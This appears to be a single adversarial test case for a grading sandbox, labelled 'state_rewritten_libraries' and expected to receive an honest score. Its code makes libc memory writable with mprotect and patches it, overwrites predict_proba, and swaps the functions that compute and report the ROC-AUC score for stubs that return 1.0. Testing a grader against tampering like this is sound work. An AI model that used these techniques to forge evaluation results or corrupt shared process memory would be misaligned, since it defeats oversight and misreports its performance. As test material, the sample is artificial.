# attack: state_rewritten_libraries | expect: honest-score | class: state | pages of libraries and of the interpreter made writable and rewritten, hoping that other processes map the same
    from sklearn.naive_bayes import GaussianNB
    base = GaussianNB().fit(x_train, y_train)

    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    import sklearn.naive_bayes, gc, types
    anchor = ctypes.cast(libc.getenv, ctypes.c_void_p).value & ~4095
    if libc.mprotect(ctypes.c_void_p(anchor), 4096, 7) == 0: ctypes.memmove(anchor, b'\x31\xc0\xc3', 3)
    GaussianNB.predict_proba = lambda self, x: __import__('numpy').full((len(x), 2), .5)
    for f in gc.get_objects():
        if type(f) is types.FunctionType and f.__name__ in ('roc_auc_score', 'check_probabilities', 'receive_job'): f.__code__ = (lambda *a, **k: 1.0).__code__
    model = base
